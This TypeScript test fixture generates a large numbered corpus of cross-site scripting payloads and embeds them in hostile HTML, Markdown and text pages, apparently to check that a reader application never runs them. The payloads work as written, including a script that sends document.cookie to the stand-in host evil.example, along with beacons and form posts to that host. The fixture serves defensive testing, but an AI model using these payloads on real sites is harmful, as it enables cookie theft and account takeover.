/**
 * A corpus of script-injection payloads, and files that carry them where imported pages carry
 * text: the body, attributes, <title>, meta tags, JSON-LD, Markdown and plain text. Every
 * payload that could run calls `__xss(n)` (n: its number), shows a dialog, or asks
 * evil.example for something, so a test can tell whether any of them ever ran, anywhere.
 */

export const EVIL_ORIGIN = 'https://evil.example'

export interface Payload {
  n: number
  family: string
  html: string
}

const call = (n: number) => `__xss(${n})`

const b64 = (s: string) => Buffer.from(s).toString('base64')

// Classic script tags, split and nested ones among them.
const SCRIPTS: ((n: number) => string)[] = [
  (n) => `<script>${call(n)}</script>`,
  (n) => `<SCRIPT type="text/javascript">${call(n)}</SCRIPT>`,
  (n) => `<script type="module">${call(n)}</script>`,
  (n) => `<script src="${EVIL_ORIGIN}/${n}.js"></script>`,
  (n) => `<script/src=data:,${call(n)}></script>`,
  (n) => `<script src="data:text/javascript,${call(n)}"></script>`,
  (n) => `<scr<script>ipt>${call(n)}</scr</script>ipt>`,
  (n) => `<<script>${call(n)}//<</script>`,
  (n) => `<script>/*</script><script>*/${call(n)}</script>`,
  (n) => `<script>setTimeout('${call(n)}')</script>`,
  (n) => `<script>alert(${n})</script>`,
  (n) => `<script>fetch('${EVIL_ORIGIN}/steal?n=${n}&c=' + document.cookie)</script>`,
  (n) => `<script>document.title = 'pwned ${n}'; ${call(n)}</script>`,
  (n) => `<script>new Image().src = '${EVIL_ORIGIN}/beacon/${n}'</script>`,
  (n) => `<script>eval(atob('${b64(call(n))}'))</script>`,
  (n) => `<script>location = 'javascript:${call(n)}'</script>`,
  (n) => `<script>window.open('${EVIL_ORIGIN}/${n}')</script>`,
  (n) => `<script>navigator.sendBeacon('${EVIL_ORIGIN}/${n}')</script>`,
]

// Event handlers on many tags; the attributes that make each fire on its own where one exists.
const HANDLER_TAGS = [
  'img src=x',
  'image src=x',
  'svg',
  'body',
  'iframe',
  'video src=x',
  'audio src=x',
  'input autofocus',
  'textarea autofocus',
  'select autofocus',
  'button autofocus',
  'details open',
  'marquee',
  'div',
  'a href=#',
  'object data=x',
  'embed src=x',
  'form',
  'math',
  'style',
  'link rel=stylesheet href=x',
  'source src=x',
  'track src=x',
  'keygen autofocus',
  'frameset',
  'table background=x',
  'p tabindex=1',
  'span tabindex=1 autofocus',
  'h1',
  'isindex',
  'x contenteditable autofocus',
  'picture',
  'bgsound src=x',
]
const HANDLER_EVENTS = [
  'onerror',
  'onload',
  'onfocus',
  'onmouseover',
  'onclick',
  'ontoggle',
  'onanimationstart',
  'onpointerenter',
  'onbegin',
]

// URLs that run script or leave the origin, in every attribute that takes a URL.
const URLS: ((n: number) => string)[] = [
  (n) => `javascript:${call(n)}`,
  (n) => `JaVaScRiPt:${call(n)}`,
  (n) => `java\tscript:${call(n)}`,
  (n) => ` javascript:${call(n)}`,
  (n) => `&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${call(n)}`,
  (n) => `javascript&colon;${call(n)}`,
  (n) => `data:text/html,<script>${call(n)}</script>`,
  (n) => `data:text/html;base64,${b64(`<script>parent.${call(n)}</script>`)}`,
  () => 'vbscript:msgbox(1)',
  (n) => `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${call(n)}"/>`,
  (n) => `${EVIL_ORIGIN}/${n}`,
  (n) => `//evil.example/${n}`,
]
const URL_PLACES: ((url: string) => string)[] = [
  (u) => `<a href="${u}">a link</a>`,
  (u) => `<iframe src="${u}"></iframe>`,
  (u) => `<img src="${u}">`,
  (u) => `<form action="${u}"><input type="submit" value="go"></form>`,
  (u) => `<form><button formaction="${u}">go</button></form>`,
  (u) => `<object data="${u}"></object>`,
  (u) => `<embed src="${u}">`,
  (u) => `<svg><a xlink:href="${u}"><text x="0" y="20">svg link</text></a></svg>`,
  (u) => `<map><area href="${u}" shape="rect" coords="0,0,10,10"></map>`,
  (u) => `<base href="${u}">`,
  (u) => `<link rel="stylesheet" href="${u}">`,
  (u) => `<input type="image" src="${u}">`,
  (u) => `<video poster="${u}"></video>`,
  (u) => `<img srcset="${u} 2x">`,
  (u) => `<frameset><frame src="${u}"></frameset>`,
  (u) => `<math href="${u}"><mi>x</mi></math>`,
  (u) => `<table background="${u}"><tr><td>cell</td></tr></table>`,
  (u) => `<meta http-equiv="refresh" content="0; url=${u}">`,
]

// SVG and MathML, including the mutation-XSS shapes that fooled sanitisers.
const SVG_MATHML: ((n: number) => string)[] = [
  (n) => `<svg onload=${call(n)}>`,
  (n) => `<svg><script>${call(n)}</script></svg>`,
  (n) => `<svg><animate onbegin=${call(n)} attributeName=x dur=1s>`,
  (n) => `<svg><set attributeName="onmouseover" to="${call(n)}"/></svg>`,
  (n) => `<svg><animate attributeName="href" values="javascript:${call(n)}"/><a><text>x</text></a></svg>`,
  (n) => `<svg><foreignObject><img src=x onerror=${call(n)}></foreignObject></svg>`,
  (n) =>
    `<svg><use href="data:image/svg+xml;base64,${b64(`<svg id="x" xmlns="http://www.w3.org/2000/svg"><image href="x" onerror="${call(n)}"/></svg>`)}#x"/></svg>`,
  (n) => `<svg><style><img src=x onerror=${call(n)}></style></svg>`,
  (n) =>
    `<math><mtext><table><mglyph><style><img src=x onerror=${call(n)}></style></mglyph></table></mtext></math>`,
  (n) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${call(n)}>`,
  (n) => `<math><mi xlink:href="javascript:${call(n)}">click</mi></math>`,
  (n) => `<svg><desc><![CDATA[</desc><script>${call(n)}</script>]]></svg>`,
  (n) => `<svg><title><img src=x onerror=${call(n)}></title></svg>`,
  (n) => `<svg><image href="${EVIL_ORIGIN}/${n}.png"/></svg>`,
  (n) => `<svg><feImage href="${EVIL_ORIGIN}/${n}.svg"/></svg>`,
]

// Style sheets and style attributes that fetch or run.
const CSS: ((n: number) => string)[] = [
  (n) => `<style>@import '${EVIL_ORIGIN}/${n}.css';</style>`,
  (n) => `<style>body { background: url(${EVIL_ORIGIN}/${n}.png) }</style>`,
  (n) => `<style>@font-face { font-family: x; src: url(${EVIL_ORIGIN}/${n}.woff) }</style>`,
  (n) => `<div style="background-image: url('${EVIL_ORIGIN}/${n}.gif')">styled</div>`,
  (n) => `<div style="width: expression(${call(n)})">expression</div>`,
  (n) => `<div style="-moz-binding: url('${EVIL_ORIGIN}/${n}.xml#xss')">binding</div>`,
  (n) => `<div style="behavior: url(${EVIL_ORIGIN}/${n}.htc)">behaviour</div>`,
  (n) => `<div style="background: url(javascript:${call(n)})">js url</div>`,
  (n) => `<style>*{}</style><div style="animation-name: x" onanimationstart="${call(n)}">animated</div>`,
  (n) => `<style>li { list-style-image: url("javascript:${call(n)}") }</style><ul><li>item</li></ul>`,
  (n) => `<link rel="stylesheet" href="${EVIL_ORIGIN}/${n}.css">`,
  (n) => `<link rel="prefetch" href="${EVIL_ORIGIN}/${n}">`,
  (n) => `<link rel="import" href="${EVIL_ORIGIN}/${n}.html">`,
  (n) => `<div style="background:url(&quot;${EVIL_ORIGIN}/${n}&quot;)">quoted</div>`,
  (n) => `<p style="x:\\65xpression(${call(n)})">escaped</p>`,
]

const FRAMES_AND_NAVIGATION: ((n: number) => string)[] = [
  (n) => `<iframe srcdoc="<script>parent.${call(n)}</script>"></iframe>`,
  (n) => `<iframe srcdoc="&lt;img src=x onerror=parent.${call(n)}&gt;"></iframe>`,
  (n) => `<iframe srcdoc='<svg onload="top.${call(n)}">'></iframe>`,
  (n) => `<iframe src="${EVIL_ORIGIN}/${n}" sandbox="allow-scripts"></iframe>`,
  (n) => `<meta http-equiv="refresh" content="0;url=javascript:${call(n)}">`,
  (n) => `<meta http-equiv="refresh" content="0; url=${EVIL_ORIGIN}/${n}">`,
  (n) =>
    `<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'"><script>${call(n)}</script>`,
  (n) => `<meta http-equiv="set-cookie" content="x=${n}">`,
  (n) => `<base href="${EVIL_ORIGIN}/"><script src="/${n}.js"></script>`,
  (n) =>
    `<form action="${EVIL_ORIGIN}/${n}" method="post"><input name="x" value="secret"><button>Send</button></form>`,
  (n) => `<form id="f${n}"></form><button form="f${n}" formaction="javascript:${call(n)}">go</button>`,
  (n) => `<isindex type=image src=1 onerror=${call(n)}>`,
  (n) => `<object type="text/x-scriptlet" data="${EVIL_ORIGIN}/${n}.sct"></object>`,
  (n) =>
    `<embed src="data:image/svg+xml;base64,${b64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${call(n)}"/>`)}">`,
  (n) => `<a href="${EVIL_ORIGIN}/${n}" ping="${EVIL_ORIGIN}/ping/${n}">ping</a>`,
]

// Template-engine expressions: inert text unless something evaluates them.
const TEMPLATES: ((n: number) => string)[] = [
  (n) => `{{constructor.constructor('${call(n)}')()}}`,
  (n) => `{{$on.constructor('${call(n)}')()}}`,
  (n) => `\${${call(n)}}`,
  (n) => `<%= ${call(n)} %>`,
  (n) => `#{${call(n)}}`,
  (n) => `[[\${${call(n)}}]]`,
  (n) => `{{'a'.constructor.prototype.charAt=[].join;$eval('x=${call(n)}');}}`,
  (n) => `<div ng-app>{{constructor.constructor('${call(n)}')()}}</div>`,
  (n) => `<div v-html="'<img src=x onerror=${call(n)}>'"></div>`,
  (n) => `{{#with "s" as |string|}}{{${call(n)}}}{{/with}}`,
]

// Broken and nested markup, and breakouts from the contexts a payload may land in.
const BROKEN: ((n: number) => string)[] = [
  (n) => `<noscript><p title="</noscript><img src=x onerror=${call(n)}>"></noscript>`,
  (n) => `<!--<img src="--><img src=x onerror=${call(n)}//">`,
  (n) => `<title><img src=x onerror=${call(n)}></title>`,
  (n) => `<textarea><img src=x onerror=${call(n)}></textarea>`,
  (n) => `<xmp><img src=x onerror=${call(n)}></xmp>`,
  (n) => `<![CDATA[<img src=x onerror=${call(n)}>]]>`,
  (n) => `<img src="x` + `" onerror="${call(n)}">`,
  (n) => `<a href="x" <script>${call(n)}</script>>broken</a>`,
  (n) => `"><img src=x onerror=${call(n)}>`,
  (n) => `'><script>${call(n)}</script>`,
  (n) => `</textarea><script>${call(n)}</script>`,
  (n) => `</title><script>${call(n)}</script>`,
  (n) => `</script><script>${call(n)}</script>`,
  (n) => `</style><script>${call(n)}</script>`,
  (n) =>
    `<div id="d${n}"></div><script>document.getElementById('d${n}').innerHTML = '<img src=x onerror=${call(n)}>'</script>`,
  (n) => `<IMG """><SCRIPT>${call(n)}</SCRIPT>">`,
  (n) => `<IMG SRC=\`javascript:${call(n)}\`>`,
  (n) => `<IMG SRC=# onmouseover="${call(n)}">`,
  (n) => `<IMG SRC=/ onerror="${call(n)}"></img>`,
  (n) => `<img src=x:alert(alt) onerror=eval(src) alt=${n}>`,
  (n) => `<BODY ONLOAD=${call(n)}>`,
  (n) => `<TABLE BACKGROUND="javascript:${call(n)}">`,
  (n) => `<DIV STYLE="background-image: url(javascript:${call(n)})">`,
  (n) => `<img/src=x/onerror=${call(n)}>`,
  (n) => `<img src=x OnErRoR=${call(n)}>`,
  (n) => `<img src=x onerror=&#x5f;&#x5f;xss(${n})>`,
  (n) => `<img src=x onerror="javascript:${call(n)}">`,
  (n) => `<img src=x onerror=\u2028${call(n)}>`,
  (n) => `<svg/onload=${call(n)}//`,
  (n) => `<details/open/ontoggle=${call(n)}>`,
  (n) => `<template><img src=x onerror=${call(n)}></template>`,
  (n) => `<slot onclick=${call(n)}>slot</slot>`,
  (n) => `<dialog open onclose=${call(n)}>dialog</dialog>`,
  (n) => `<a href="#" onclick="${call(n)}" style="display:block;position:fixed;inset:0">cover</a>`,
  (n) => `\u0000<script>${call(n)}</script>`,
  (n) => `<scri\u0000pt>${call(n)}</scri\u0000pt>`,
  (n) => `%3Cscript%3E${call(n)}%3C/script%3E`,
  (n) => `&lt;script&gt;${call(n)}&lt;/script&gt;`,
  (n) => `\\u003cscript\\u003e${call(n)}\\u003c/script\\u003e`,
  (n) => `<a href="jav&#x0A;ascript:${call(n)}">entity newline</a>`,
]

/** The whole corpus, numbered from 1. */
export function xssCorpus(): Payload[] {
  const payloads: Payload[] = []
  const add = (family: string, make: (n: number) => string) =>
    payloads.push({ n: payloads.length + 1, family, html: make(payloads.length + 1) })
  for (const make of SCRIPTS) add('script tag', make)
  for (const tag of HANDLER_TAGS) {
    const name = tag.split(' ')[0]
    for (const event of HANDLER_EVENTS)
      add('event handler', (n) => `<${tag} ${event}="${call(n)}">${name} ${event}</${name}>`)
  }
  for (const place of URL_PLACES) for (const url of URLS) add('url', (n) => place(url(n)))
  for (const make of SVG_MATHML) add('svg/mathml', make)
  for (const make of CSS) add('css', make)
  for (const make of FRAMES_AND_NAVIGATION) add('frames and navigation', make)
  for (const make of TEMPLATES) add('template injection', make)
  for (const make of BROKEN) add('broken markup', make)
  return payloads
}

const escapeHtml = (s: string) =>
  s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;')

/** A sentence the analysis finds check-worthy (numbers, attribution), to carry payloads. */
const claim = (i: number) =>
  `The council said on Tuesday that ${i + 2} million euros were approved for the harbour.`

/** The payloads in groups of `size`, so a page carries them in a few hundred paragraphs. */
function groups(payloads: Payload[], size = 4): Payload[][] {
  const out: Payload[][] = []
  for (let i = 0; i < payloads.length; i += size) out.push(payloads.slice(i, i + size))
  return out
}

/** A plain sentence for a person to select in the reader (and to note). */
export const SELECTABLE = 'Work on the new quay is to begin in the spring'

/**
 * A news page with the payloads as markup in the body (raw, as a hostile page has them), as
 * text (escaped: the reader shows them), in <title>, meta tags and JSON-LD.
 */
export function hostilePage(payloads: Payload[]): string {
  const sample = payloads
    .slice(0, 12)
    .map((p) => p.html)
    .join(' ')
  const jsonLd = JSON.stringify({
    '@context': 'https://schema.org',
    '@type': 'NewsArticle',
    headline: `Harbour budget ${sample}`,
    description: sample,
    author: { '@type': 'Person', name: `Anna Berg ${payloads[0].html}` },
    publisher: { '@type': 'Organization', name: `Hostile Gazette ${payloads[1].html}` },
    datePublished: '2026-03-01T10:00:00Z',
    url: `javascript:${call(0)}`,
  })
  const meta = payloads
    .slice(0, 20)
    .map(
      (p, i) =>
        `<meta name="${['description', 'author', 'keywords', 'og:title'][i % 4]}" content="${escapeHtml(p.html)}">`,
    )
    .join('\n')
  const body = groups(payloads)
    .map((g, i) => {
      const raw = g.map((p) => p.html).join(' ')
      const text = escapeHtml(g.map((p) => p.html).join(' '))
      return `<p>${claim(i)} ${raw}</p>\n<p>“${text},” said Mayor Anna Berg about items ${g[0].n} to ${g[g.length - 1].n}.</p>`
    })
    .join('\n')
  return `<!doctype html>
<html lang="en"><head>
<meta charset="utf-8">
<title>Harbour budget &lt;script&gt;${call(0)}&lt;/script&gt; ${escapeHtml(payloads[2].html)} | Hostile Gazette</title>
${meta}
<meta property="og:title" content="Harbour budget ${escapeHtml(sample)}">
<meta property="og:url" content="javascript:${call(0)}">
<meta property="og:image" content="${EVIL_ORIGIN}/og.png">
<script type="application/ld+json">${jsonLd}</script>
${payloads
  .slice(0, 30)
  .map((p) => p.html)
  .join('\n')}
</head><body>
<article>
<h1>Harbour budget approved ${payloads[3].html}</h1>
<p>${SELECTABLE} and take two years, the harbour office said.</p>
${body}
</article>
</body></html>`
}

/** A page with the payloads inside attribute values, quoted each way and unquoted. */
export function attributePage(payloads: Payload[]): string {
  const body = groups(payloads)
    .map(
      (g, i) =>
        g
          .map((p) => `<span title="${p.html}" data-note='${p.html}' class=${p.html}>Item ${p.n}.</span>`)
          .join(' ') +
        `<p>${claim(i)}</p>\n` +
        `<p><a href="${EVIL_ORIGIN}/${g[0].n}" title="${escapeHtml(g[0].html)}">The source for item ${g[0].n}</a> was cited by 3 officials.</p>`,
    )
    .join('\n')
  return `<!doctype html><html lang="en"><head><title>Quay attributes report</title></head><body><article>
<h1>Quay attributes report</h1>
<p>The quay report was published on Monday by the harbour office, which said 40 workers were hired.</p>
${body}
</article></body></html>`
}

/** Markdown with front matter: raw HTML blocks and inline, and links, images and autolinks to hostile URLs. */
export function hostileMarkdown(payloads: Payload[]): string {
  const lines = groups(payloads).map((g, i) => {
    const p = g[0]
    const url = i % 2 ? `javascript:${call(p.n)}` : `${EVIL_ORIGIN}/${p.n}`
    return [
      `${claim(i)} ${g.map((q) => q.html).join(' ')}`,
      '',
      `See [the record ${p.n}](${url}) and ![figure ${p.n}](${url}) or <${url}>, \`${p.html}\`.`,
      '',
      `[ref${p.n}]: ${url}`,
      '',
    ].join('\n')
  })
  return `---
title: "Markdown minutes ${escapeHtml(payloads[4].html).replace(/"/g, "'")}"
author: "<img src=x onerror=${call(0)}>"
---

# Markdown minutes

The harbour minutes were approved on Friday by 9 members of the board.

<div onmouseover="${call(0)}">A raw HTML block.</div>

${lines.join('\n')}`
}

/** Plain text: the payloads as lines of an article. */
export function hostileText(payloads: Payload[]): string {
  return `Plain text dispatch ${payloads[5].html}\n\nThe dispatch was filed on Sunday and counts 7 pages.\n\n${groups(
    payloads,
  )
    .map((g, i) => `${claim(i)} ${g.map((p) => p.html).join(' ')}`)
    .join('\n\n')}\n`
}
